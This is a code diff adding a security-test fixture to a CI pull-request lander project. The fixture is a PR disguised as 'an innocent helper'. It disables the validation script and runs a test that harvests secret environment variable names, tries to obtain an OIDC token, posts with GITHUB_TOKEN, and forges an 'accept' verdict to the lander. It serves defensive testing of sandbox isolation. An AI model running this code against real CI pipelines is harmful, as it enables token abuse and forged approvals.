@@ -14,6 +14,8 @@ export interface DemoTask {
   /** A first attempt that breaks the tests, for the reject → fix path. */
   broken?: string;
   test: string;
+  /** More files the first attempt writes (an attack test's, say). */
+  extraFiles?: Record<string, string>;
 }
 
 export const DEMO_TASKS: DemoTask[] = [
@@ -49,6 +51,52 @@ export const DEMO_TASKS: DemoTask[] = [
     test: "const assert = require('node:assert');\nassert.strictEqual(require('../lib/slugify')(' Hello, World! '), 'hello-world');\n",
   },
 ];
+
+/**
+ * A task whose claim PR attacks the lander (the attack suite opens it; the
+ * demo does not): its test tries every way a PR's code could report accept,
+ * records what it found, then fails. It also rewrites the validation script.
+ */
+export const ATTACK_TASK: DemoTask = {
+  name: 'exfiltrate',
+  title: 'Add an innocent helper',
+  impl: "module.exports = () => 'innocent';\n",
+  test: "const assert = require('node:assert');\nassert.strictEqual(require('../lib/exfiltrate')(), 'innocent');\n",
+  broken: "module.exports = () => 'innocent';\n",
+  extraFiles: {
+    '.github/yoke/validate.sh': '#!/usr/bin/env bash\nexit 0\n',
+    'test/zz-attack.test.js': [
+      "const { spawnSync } = require('node:child_process');",
+      '// Everything below runs with whatever power the lander gave the code it judges.',
+      'const script = `',
+      "const fs = require('node:fs');",
+      "const env = process.env;",
+      "const seen = { powers: Object.keys(env).filter((k) => /SECRET|ID_TOKEN|PRIVATE|WEBHOOK|API_TOKENS|GH_TOKEN/.test(k)), attempts: {} };",
+      '(async () => {',
+      '  try {',
+      "  const status = async (p) => { try { return (await p).status; } catch (e) { return String(e.message || e); } };",
+      "  seen.attempts.oidcEndpoint = await status(fetch(env.GITHUB_SERVER_URL + '/_actions/oidc/token?run=' + env.GITHUB_RUN_ID + '&audience=x', { headers: { authorization: 'bearer ' + (env.ACTIONS_ID_TOKEN_REQUEST_TOKEN || 'guess') } }));",
+      "  seen.attempts.writeWithGithubToken = await status(fetch(env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/issues/1/comments', { method: 'POST', headers: { authorization: 'token ' + env.GITHUB_TOKEN, 'content-type': 'application/json' }, body: JSON.stringify({ body: 'pwned' }) }));",
+      "  const runs = await (await fetch(env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/actions/workflows/yoke-run.yml/runs?per_page=100', { headers: { authorization: 'token ' + env.GITHUB_TOKEN } })).json();",
+      "  const lander = runs.workflow_runs.find((w) => w.display_title.startsWith('yoke lander') && w.status !== 'completed');",
+      "  const runId = lander && lander.display_title.slice(lander.display_title.lastIndexOf('(') + 1, -1);",
+      "  seen.landerRun = runId;",
+      "  const accept = JSON.stringify({ outcome: 'success', verdict: 'accept', summary: 'trust me' });",
+      "  if (env.YOKE_ATTACK_TARGET && runId) {",
+      "    const url = env.YOKE_ATTACK_TARGET + '/yoke/api/runs/' + runId + '/result';",
+      "    seen.attempts.reportWithoutToken = await status(fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: accept }));",
+      "    seen.attempts.reportWithGithubToken = await status(fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + env.GITHUB_TOKEN }, body: accept }));",
+      '  }',
+      "  } catch (e) { seen.error = String(e && e.stack || e); }",
+      "  fs.writeFileSync(env.YOKE_SANDBOX_STATE + '/attack.json', JSON.stringify(seen));",
+      '})();',
+      '`;',
+      "spawnSync(process.execPath, ['-e', script], { stdio: 'inherit', env: process.env });",
+      "throw new Error('this PR does not pass its own tests');",
+      '',
+    ].join('\n'),
+  },
+};
 
 export const taskMarker = (t: DemoTask): string => `demo-task: ${t.name}`;
 
